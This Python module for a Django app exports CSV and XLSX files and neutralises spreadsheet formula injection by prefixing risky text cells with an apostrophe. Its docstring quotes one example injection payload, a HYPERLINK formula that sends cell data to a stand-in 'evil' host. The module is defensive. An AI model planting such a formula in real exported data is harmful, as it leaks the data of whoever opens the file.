"""The one way to write a spreadsheet export: every cell neutralised against formula injection.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula, and
some also after a TAB or CR, or after leading spaces (OWASP "CSV Injection"). A deal named
``=HYPERLINK("http://evil/?"&A1,"Click")`` exported by a manager would run on their machine.
:func:`safe_cell` prefixes such *text* with an apostrophe, which spreadsheets show as text and
do not store. A number typed as a number (``int``, ``Decimal``, ``float``) is left alone, so a
negative amount stays a number that sums; a string that merely looks like ``-5`` is text from
a user and is neutralised like any other.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Iterator, Sequence
from datetime import date, datetime
from decimal import Decimal
from typing import Any

import xlsxwriter
from django.http import HttpResponse, StreamingHttpResponse

# OWASP's list: formula starters, and TAB / CR which some spreadsheets skip before them.
FORMULA_STARTERS = frozenset("=+-@\t\r")
_WHITESPACE = " \t\r\n\x0b\x0c"


def is_dangerous(text: str) -> bool:
    """Whether a spreadsheet could read ``text`` as a formula."""
    return bool(text) and (
        text[0] in FORMULA_STARTERS or text.lstrip(_WHITESPACE)[:1] in FORMULA_STARTERS
    )


def safe_cell(value: Any) -> Any:
    """``value`` as a cell that no spreadsheet runs: numbers as they are, text neutralised."""
    if value is None:
        return ""
    if isinstance(value, bool):
        return "true" if value else "false"
    if isinstance(value, int | Decimal):
        return value
    if isinstance(value, float):
        return value if value == value and value not in (float("inf"), float("-inf")) else ""
    if isinstance(value, datetime | date):
        return value.isoformat()
    text = str(value)
    return "'" + text if is_dangerous(text) else text


class _Echo:
    """A file-like object whose ``write`` hands the line back, for streaming."""

    def write(self, value: str) -> str:
        return value


def csv_lines(rows: Iterable[Iterable[Any]]) -> Iterator[str]:
    """``rows`` (header first) as CSV lines, every cell through :func:`safe_cell`."""
    writer = csv.writer(_Echo())
    for row in rows:
        yield writer.writerow([safe_cell(v) for v in row])


def csv_response(rows: Iterable[Iterable[Any]], *, filename: str) -> StreamingHttpResponse:
    """A streamed CSV download of ``rows``; private (``no-store``) like every export."""
    response = StreamingHttpResponse(csv_lines(rows), content_type="text/csv; charset=utf-8")
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response


XLSX_CONTENT_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
_SHEET_NAME_FORBIDDEN = str.maketrans({c: " " for c in "[]:*?/\\"})
# Characters XML 1.0 cannot carry: a workbook holding one would not open.
_XML_FORBIDDEN = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ufffe\uffff]")


def _sheet_names(sheets: Sequence[tuple[str, Iterable[Iterable[Any]]]]) -> list[str]:
    """Names a spreadsheet accepts: no ``[]:*?/\\``, at most 31 characters, unique."""
    names: list[str] = []
    for name, _ in sheets:
        clean = (name.translate(_SHEET_NAME_FORBIDDEN).strip("' ") or "Sheet")[:31]
        while clean.casefold() in (n.casefold() for n in names):
            clean = f"{clean[:28]}_{len(names)}"
        names.append(clean)
    return names


def xlsx_bytes(sheets: Sequence[tuple[str, Iterable[Iterable[Any]]]]) -> bytes:
    """A workbook with one sheet per ``(name, rows)``; rows header first, cells made safe.

    Written by XlsxWriter with every automatic conversion off, and each cell written by its
    type (``write_number`` or ``write_string``), so no cell is ever stored as a formula or a
    link, whatever it holds; text is neutralised by :func:`safe_cell` as in the CSV.
    """
    buffer = io.BytesIO()
    options = {
        "in_memory": True,
        "strings_to_formulas": False,
        "strings_to_urls": False,
        "strings_to_numbers": False,
    }
    with xlsxwriter.Workbook(buffer, options) as workbook:
        for name, (_, rows) in zip(_sheet_names(sheets), sheets, strict=True):
            worksheet = workbook.add_worksheet(name)
            for r, row in enumerate(rows):
                for c, value in enumerate(row):
                    cell = safe_cell(value)
                    if isinstance(cell, int | Decimal | float):
                        worksheet.write_number(r, c, float(cell))
                    elif text := _XML_FORBIDDEN.sub("", str(cell)):
                        worksheet.write_string(r, c, text)
    return buffer.getvalue()


def xlsx_response(
    sheets: Sequence[tuple[str, Iterable[Iterable[Any]]]], *, filename: str
) -> HttpResponse:
    """A workbook download (see :func:`xlsx_bytes`); private (``no-store``) like every export."""
    response = HttpResponse(xlsx_bytes(sheets), content_type=XLSX_CONTENT_TYPE)
    response["Content-Disposition"] = f'attachment; filename="{filename}"'
    response["Cache-Control"] = "no-store"
    return response
